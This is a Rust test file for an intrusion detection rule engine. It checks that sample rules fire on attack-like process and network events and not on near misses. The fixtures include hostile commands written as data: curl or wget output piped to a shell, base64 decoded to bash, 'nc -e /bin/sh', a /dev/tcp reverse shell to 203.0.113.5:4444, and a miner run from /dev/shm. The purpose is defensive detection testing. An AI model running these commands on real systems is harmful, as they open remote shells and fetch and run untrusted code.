//! rules/sample-rules.toml, proved: every sample rule fires on a positive
//! and stays silent on a near miss, and no other sample rule fires on
//! either by accident.

use std::path::Path;
use std::sync::Arc;

use super::fields::Scratch;
use super::matcher::eval;
use super::tests::process;
use super::*;
use crate::model::event::{Body, Event, ExecBody};
use crate::model::proctable::Process;

const SAMPLES: &str = include_str!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/rules/sample-rules.toml"
));

fn samples() -> RuleSet {
    let rules = parse_file(Path::new("rules/sample-rules.toml"), SAMPLES)
        .unwrap_or_else(|e| panic!("{}", RuleErrors(e)));
    RuleSet::from_rules(rules)
}

fn event(p: Arc<Process>, body: Body) -> Event {
    Event {
        seq: 1,
        time_ns: 0,
        ktime_ns: 0,
        pid: p.pid,
        tid: p.pid,
        body,
        process: Some(p),
    }
}

/// `args` run by `exe` under the chain of ancestors `above` (nearest
/// first; pids 100, 101, ... from the top).
fn exec(exe: &str, args: &[&str], above: &[&str]) -> Event {
    let mut parent = None;
    for (i, a) in above.iter().rev().enumerate() {
        let pid = if *a == "[kthreadd]" {
            2
        } else {
            100 + i as u32
        };
        parent = Some(process(pid, a, &[a], parent));
    }
    let p = process(500, exe, args, parent);
    let body = Body::Exec(ExecBody {
        image: p.image.clone(),
        ppid: p.ppid,
        start_ns: 0,
        parent_start_ns: 0,
        creds: p.creds.unwrap(),
        cgroup_id: 7,
        ns: crate::testkit::NS,
        argc: args.len() as u32,
        stdio: Default::default(),
    });
    event(p, body)
}

fn sh(cmd: &str) -> Event {
    exec("/bin/sh", &["sh", "-c", cmd], &["/usr/sbin/cron"])
}

fn connect(exe: &str, remote: &str) -> Event {
    let p = process(700, exe, &[exe], None);
    event(p, Body::Net(crate::testkit::connect_body(remote)))
}

fn fired(set: &RuleSet, ev: &Event) -> Vec<String> {
    let mut out = Vec::new();
    set.matches(ev, &mut Scratch::default(), &mut out);
    out.iter()
        .map(|i| set.rules()[*i].meta.id.clone())
        .collect()
}

/// (rule, positives, near misses).
fn cases() -> Vec<(&'static str, Vec<Event>, Vec<Event>)> {
    vec![
        (
            "sample-download-piped-to-shell",
            vec![
                sh("curl -fsSL http://203.0.113.5/i.sh | sh"),
                sh("wget -qO- http://x/y | sudo bash"),
                sh("curl http://x/y|/bin/bash -s -- --flag"),
            ],
            vec![
                sh("curl -fsSL http://203.0.113.5/i.sh -o /tmp/i.sh"),
                sh("curl -s http://x/y | shasum"),
                sh("curl -s http://x/y; sh ./local.sh"),
                // Not a shell running it.
                exec("/usr/bin/python3", &["python3", "-c", "curl x | sh"], &[]),
            ],
        ),
        (
            "sample-base64-decoded-to-shell",
            vec![
                sh("echo ZWNobyBoaQ== | base64 -d | sh"),
                sh("base64 --decode /tmp/p.b64 | bash"),
            ],
            vec![
                sh("base64 -d in.b64 > out.bin"),
                sh("echo hi | base64 | sh"),
            ],
        ),
        (
            "sample-exec-from-temp-dir",
            vec![
                exec("/tmp/x", &["/tmp/x"], &[]),
                exec("/dev/shm/.k/miner", &["miner"], &[]),
                exec("/var/tmp/a", &["a"], &[]),
            ],
            vec![
                exec("/tmpx/a", &["a"], &[]),
                exec("/usr/bin/tmpreaper", &["tmpreaper"], &[]),
                exec("/home/ann/tmp/a", &["a"], &[]),
            ],
        ),
        (
            "sample-web-server-spawns-shell",
            vec![
                exec(
                    "/bin/sh",
                    &["sh", "-c", "id"],
                    &["/usr/sbin/php-fpm8.2", "/usr/sbin/nginx"],
                ),
                exec(
                    "/bin/bash",
                    &["bash"],
                    &["/bin/sh", "/usr/sbin/apache2", "/sbin/init"],
                ),
            ],
            vec![
                exec("/bin/bash", &["bash"], &["/usr/sbin/sshd", "/sbin/init"]),
                // A web server running a non-shell helper.
                exec("/usr/bin/convert", &["convert"], &["/usr/sbin/nginx"]),
            ],
        ),
        (
            "sample-netcat-exec",
            vec![
                exec(
                    "/usr/bin/nc",
                    &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"],
                    &[],
                ),
                exec("/usr/bin/ncat", &["ncat", "--sh-exec", "id", "-l"], &[]),
                exec("/bin/nc.traditional", &["nc", "-e/bin/sh", "x", "1"], &[]),
            ],
            vec![
                exec("/usr/bin/nc", &["nc", "-zv", "host", "22"], &[]),
                exec("/usr/bin/nc", &["nc", "-l", "-p", "8080"], &[]),
            ],
        ),
        (
            "sample-dev-tcp-redirect",
            vec![sh("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")],
            vec![sh("ls -l /dev/tty /dev/tcpdump"), sh("echo x > /dev/null")],
        ),
        (
            "sample-shell-network-connection",
            vec![
                connect("/bin/bash", "203.0.113.5:4444"),
                connect("/usr/bin/dash", "10.0.0.9:80"),
            ],
            vec![connect("/usr/bin/curl", "203.0.113.5:443")],
        ),
        (
            "sample-account-tool-run",
            vec![
                exec("/usr/sbin/useradd", &["useradd", "-m", "svc"], &[]),
                exec("/usr/sbin/usermod", &["usermod", "-aG", "sudo", "ann"], &[]),
            ],
            vec![
                exec("/usr/sbin/useradd", &["useradd", "--help"], &[]),
                exec("/usr/bin/users", &["users"], &[]),
            ],
        ),
        (
            "sample-kernel-module-load",
            vec![
                exec("/sbin/insmod", &["insmod", "/tmp/r.ko"], &["/bin/bash"]),
                exec("/sbin/modprobe", &["modprobe", "evil"], &["/bin/bash"]),
            ],
            vec![
                exec(
                    "/sbin/modprobe",
                    &["modprobe", "-r", "evil"],
                    &["/bin/bash"],
                ),
                // The kernel asking for a module: a kthreadd descendant.
                exec(
                    "/sbin/modprobe",
                    &["modprobe", "-q", "--", "net-pf-38"],
                    &["[kworker]", "[kthreadd]"],
                ),
                exec("/sbin/lsmod", &["lsmod"], &["/bin/bash"]),
            ],
        ),
        (
            "sample-mining-pool-port",
            vec![connect("/tmp/xmrig", "198.51.100.7:3333")],
            vec![connect("/tmp/xmrig", "198.51.100.7:443")],
        ),
    ]
}

#[test]
fn every_sample_rule_fires_on_its_positives_and_not_on_near_misses() {
    let set = samples();
    let cases = cases();
    for rule in set.rules() {
        assert!(
            cases.iter().any(|(id, _, _)| *id == rule.meta.id),
            "sample rule {} has no test case",
            rule.meta.id
        );
    }
    assert!(set.len() >= 10);
    for (id, positives, misses) in cases {
        assert!(
            set.rules().iter().any(|r| r.meta.id == id),
            "{id} is not in the sample rules"
        );
        for ev in &positives {
            assert_eq!(fired(&set, ev), [id], "{id} positive: {ev:?}");
        }
        for ev in &misses {
            assert_eq!(
                fired(&set, ev),
                Vec::<String>::new(),
                "{id} near miss: {ev:?}"
            );
        }
    }
}

/// The hash index finds exactly what evaluating every rule finds, in rule
/// order: over the sample rules plus rules keyed on numbers, on repeated
/// values, and on fields shared with unkeyed rules.
#[test]
fn indexed_matching_equals_evaluating_every_rule() {
    let extra = r#"
[[rules]]
id = "k-port"
name = "port"
severity = "low"
events = ["connect"]
[[rules.all]]
field = "destination.port"
in = [3333, 443, 443]

[[rules]]
id = "k-uid"
name = "uid"
severity = "low"
events = ["process", "file"]
[[rules.all]]
field = "user.id"
equals = 33

[[rules]]
id = "k-name-or"
name = "any name"
severity = "low"
events = ["exec"]
[[rules.any]]
field = "process.name"
equals = "sh"
[[rules.any]]
field = "process.name"
equals = "nc"

[[rules]]
id = "k-sh-again"
name = "sh again"
severity = "low"
events = ["exec"]
[[rules.all]]
field = "process.name"
in = ["sh", "useradd"]
[[rules.all]]
field = "process.args_count"
gte = 2
"#;
    let mut rules = parse_file(Path::new("rules/sample-rules.toml"), SAMPLES).unwrap();
    rules.extend(parse_file(Path::new("extra.toml"), extra).unwrap());
    let set = RuleSet::from_rules(rules);
    let mut scratch = Scratch::default();
    let mut checked = 0;
    for (_, positives, misses) in cases() {
        for ev in positives.iter().chain(&misses) {
            let mut indexed = Vec::new();
            set.matches(ev, &mut scratch, &mut indexed);
            let action = fields::action_index(ev.body.action()).unwrap();
            let every: Vec<usize> = (0..set.len())
                .filter(|i| set.rules()[*i].actions.contains(&action))
                .filter(|i| eval(&set.rules()[*i].cond, ev, &mut Scratch::default()))
                .collect();
            assert_eq!(indexed, every, "{ev:?}");
            checked += usize::from(!every.is_empty());
        }
    }
    // The extra rules did fire somewhere (uid 33 is every test process).
    assert!(checked > 20, "{checked}");
}
